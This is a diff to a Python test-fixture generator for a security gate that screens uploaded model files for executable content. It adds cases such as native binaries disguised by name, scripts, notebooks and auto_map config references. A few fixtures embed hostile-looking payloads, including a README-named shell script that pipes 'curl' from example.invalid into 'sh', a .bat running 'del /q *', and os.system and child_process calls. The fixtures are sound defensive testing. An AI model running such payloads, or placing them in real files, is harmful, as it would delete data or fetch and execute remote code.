@@ -902,7 +902,8 @@ def family_format():
         note="config.json is not safetensors")
     add("format_json_array", b'[{"id": 1}, {"id": 2}]\n', "refused_format", "json", ext="json", note="JSON array")
     add("format_unknown_random", det_bytes(4096, "random"), "refused_format", "unknown", ext="bin", note="4096 pseudo-random bytes")
-    add("format_unknown_elf", b"\x7fELF\x02\x01\x01" + b"\0" * 9 + det_bytes(200, "elf"), "refused_format", "unknown", ext="so", note="an ELF header")
+    add("format_unknown_elf", b"\x7fELF\x02\x01\x01" + b"\0" * 9 + det_bytes(200, "elf"), "code_native", "native", offset=0, ext="so",
+        note="an ELF header: code (by content and by name)")
 
 
 def family_bypass():
@@ -956,6 +957,58 @@ def family_bypass():
         note="a valid empty header, then a pickle: refused as trailing data")
     add("bypass_pickle_in_npz", zip_bytes([("arr_0.npy", npy_bytes(np.array([1, None], dtype=object), allow_pickle=True))]), "refused_format", "numpy", ext="zip",
         note="npz whose member holds an object array")
+
+
+def pe_file():
+    data = bytearray(b"MZ" + b"\0" * 0x3a + struct.pack("<I", 0x80) + b"\0" * 0x40 + b"PE\0\0" + b"\x64\x86" + b"\0" * 18)
+    return bytes(data) + det_bytes(200, "pe")
+
+
+def family_code():
+    # Code a loader would execute (docs/DESIGN.md §3): by name (the loader picks the file
+    # by its name), by content (magics, a #! line) and in configuration (auto_map).
+    # validate passes the file name to the gate in both modes, as an upload does.
+    py = b"import os\n\nclass EvilModel:\n    def __init__(self):\n        os.system('echo pwned')\n"
+    add("code_modeling_evil", py, "code_python", "text", ext="py", mode="sidecar", note="Python source named .py (by name)")
+    add("code_modeling_evil_st_mode", py, "code_python", "text", ext="py", note="the same in plain validate: the name still marks code")
+    add("code_modeling_evil_as_txt", py, fmt="text", ext="txt", mode="sidecar", note="the same bytes named .txt: text (no #! line)")
+    add("code_empty_script", b"", "code_script", "unknown", ext="sh", mode="sidecar", note="an empty .sh: code by name")
+    add("code_setup_bat", b"@echo off\r\ndel /q *\r\n", "code_script", "text", ext="bat", mode="sidecar", note=".bat (by name)")
+    add("code_loader_js", b"require('child_process').exec('id');\n", "code_script", "text", ext="js", mode="sidecar", note=".js (by name)")
+    nb = json.dumps({"cells": [{"cell_type": "code", "source": ["import os"], "metadata": {}, "outputs": [], "execution_count": None}],
+                     "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
+    add("code_notebook", nb, "code_notebook", "json", ext="ipynb", mode="sidecar", note="a notebook named .ipynb")
+    add("code_notebook_as_json", nb, "code_notebook", "json", ext="json", mode="sidecar", note="a notebook named .json: by its cells/nbformat keys")
+    add("code_elf_named_model_bin", b"\x7fELF\x02\x01\x01" + b"\0" * 9 + det_bytes(300, "elf2"), "code_native", "native", offset=0, ext="bin",
+        mode="sidecar", note="an ELF shared object named model.bin (by content)")
+    add("code_elf_named_safetensors", b"\x7fELF\x01\x01\x01" + b"\0" * 9 + det_bytes(300, "elf3"), "code_native", "native", offset=0,
+        note="an ELF named .safetensors (by content)")
+    add("code_pe_named_txt", pe_file(), "code_native", "native", offset=0, ext="txt", mode="sidecar", note="a PE executable named .txt")
+    add("code_macho_named_bin", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + det_bytes(120, "macho"), "code_native", "native", offset=0, ext="bin",
+        mode="sidecar", note="a 64-bit Mach-O named .bin")
+    add("code_dll_text", b"not really a library\n", "code_native", "text", ext="dll", mode="sidecar", note="text named .dll (by name)")
+    pyc = struct.pack("<H", 3531) + b"\r\n" + b"\0" * 4 + b"\0" * 8 + b"\xe3" + det_bytes(100, "pyc")
+    add("code_pyc_named_bin", pyc, "code_compiled_python", "python-bytecode", offset=0, ext="bin", mode="sidecar",
+        note="CPython 3.12 bytecode named .bin (by its magic)")
+    add("code_pyc_by_name", b"\0\0\0\0", "code_compiled_python", "unknown", ext="pyc", mode="sidecar", note="four zero bytes named .pyc (by name)")
+    add("code_shebang_readme", b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n", "code_script", "script", offset=0, ext="md", mode="sidecar",
+        note="a #! shell script named README.md (by content)")
+    add("code_shebang_env_python", b"#! /usr/bin/env python3\nimport os\n", "code_script", "script", offset=0, ext="txt", mode="sidecar",
+        note="#! /usr/bin/env python3 named .txt")
+    add("code_shebang_st_mode", b"#!/bin/bash\necho hi\n", "code_script", "script", offset=0, note="a script named .safetensors")
+    add("code_not_shebang_markdown", b"#!important note\n\nText.\n", fmt="text", ext="md", mode="sidecar", note="#! without a path: text")
+    am = json.dumps({"architectures": ["EvilModel"], "model_type": "evil",
+                     "auto_map": {"AutoConfig": "configuration_evil.EvilConfig", "AutoModel": "modeling_evil.EvilModel"}}, indent=2).encode()
+    add("code_config_auto_map", am, "code_reference", "json", ext="json", mode="sidecar", note="config.json with auto_map")
+    tk = json.dumps({"tokenizer_class": "EvilTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]}}).encode()
+    add("code_tokenizer_config_auto_map", tk, "code_reference", "json", ext="json", mode="sidecar", note="tokenizer_config.json auto_map (list form)")
+    cp = json.dumps({"custom_pipelines": {"evil": {"impl": "pipeline_evil.EvilPipeline", "pt": ["AutoModel"]}}}).encode()
+    add("code_config_custom_pipelines", cp, "code_reference", "json", ext="json", mode="sidecar", note="config.json with custom_pipelines")
+    add("code_auto_map_in_txt", am, "code_reference", "json", ext="txt", mode="sidecar", note="auto_map in JSON named .txt: JSON by content, refused too")
+    add("code_config_empty_auto_map", b'{"model_type": "gpt2", "auto_map": {}}', fmt="json", ext="json", mode="sidecar",
+        note="an empty auto_map points at nothing: admitted")
+    add("code_config_nested_auto_map", b'{"text_config": {"auto_map": {"AutoModel": "m.M"}}}', fmt="json", ext="json", mode="sidecar",
+        note="auto_map below the top level: not read by loaders, admitted")
 
 
 def family_sidecar():
@@ -1073,6 +1126,7 @@ def all_cases():
     family_format()
     family_bypass()
     family_sidecar()
+    family_code()
     family_large()
     names = [c["name"] for c in CASES + LARGE]
     dup = {n for n in names if names.count(n) > 1}
